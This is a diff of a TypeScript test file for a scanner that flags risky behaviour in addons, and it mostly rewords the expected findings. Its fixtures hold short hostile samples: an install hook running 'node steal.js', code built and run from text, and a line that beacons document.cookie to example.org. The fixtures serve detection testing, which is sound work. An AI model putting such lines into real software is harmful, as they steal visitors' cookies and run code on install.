@@ -2,7 +2,7 @@ import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSyn
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { addonRoots } from '@pergola/core';
-import { type Capability, readSheet } from '../index.ts';
+import { type Capability, capabilityText, readSheet } from '../index.ts';
 
 const folders: string[] = [];
 afterAll(() => {
@@ -240,18 +240,25 @@ describe('What a hostile addon does is named with its line', () => {
       'node_modules/deep/package.json': JSON.stringify({ version: '1.0.0' }),
       'node_modules/deep/lib/a.cjs': 'module.exports = (s) => new Function(s)();',
     });
-    expect(found.map(({ kind, what, risk, where }) => [kind, what, risk, where[0]?.file])).toEqual(
+    expect(
+      found.map((capability) => [
+        capability.kind,
+        capabilityText(capability),
+        capability.risk,
+        capability.where[0]?.file,
+      ]),
+    ).toEqual(
       expect.arrayContaining([
         ['process', 'package helper: starts other programs', 'high', 'node_modules/helper/index.js'],
         ['code', 'package deep: runs code built from text', 'high', 'node_modules/deep/lib/a.cjs'],
         [
           'package',
-          'The package helper runs a program when it is installed: node steal.js',
+          'package helper: runs a program when it is installed: node steal.js',
           'high',
           'node_modules/helper/package.json',
         ],
         ['package', 'uses helper 1.0.3, which can start other programs', 'medium', 'package.json'],
-        ['code', 'the package absent is not installed, so it can’t be analysed', 'high', 'package.json'],
+        ['code', 'the package absent isn’t installed, so it can’t be analysed', 'high', 'package.json'],
         ['package', 'installs far from git+https://example.org/far', 'high', 'package.json'],
       ]),
     );
@@ -264,9 +271,8 @@ describe('What a hostile addon does is named with its line', () => {
       'styles/a.css': 'a { background: url(https://example.org/b.png) }',
       'behaviours/a.ts': "export default () => navigator.sendBeacon('https://example.org/c', document.cookie);",
     });
-    expect(found.map(({ kind, what, risk }) => `${kind} ${risk} ${what}`)).toEqual([
+    expect(found.map((capability) => `${capability.kind} ${capability.risk} ${capabilityText(capability)}`)).toEqual([
       'network high sends forms to example.org',
-      'network medium contacts example.org from visitors’ browsers',
       'network medium makes visitors’ browsers contact example.org',
       'route low changes the template web.login',
     ]);
@@ -281,8 +287,8 @@ describe('What a hostile addon does is named with its line', () => {
     symlinkSync('../elsewhere.ts', join(folder, 'near.ts'));
     expect(readSheet(folder, [])).toMatchObject({
       capabilities: [
-        { kind: 'code', what: 'near.ts is a link to a place outside of its folder' },
-        { kind: 'code', what: 'runs code built from text' },
+        { kind: 'code', what: { text: 'contains a link to a file outside of its folder' } },
+        { kind: 'code', what: { text: 'runs code built from text' } },
       ],
     });
   });
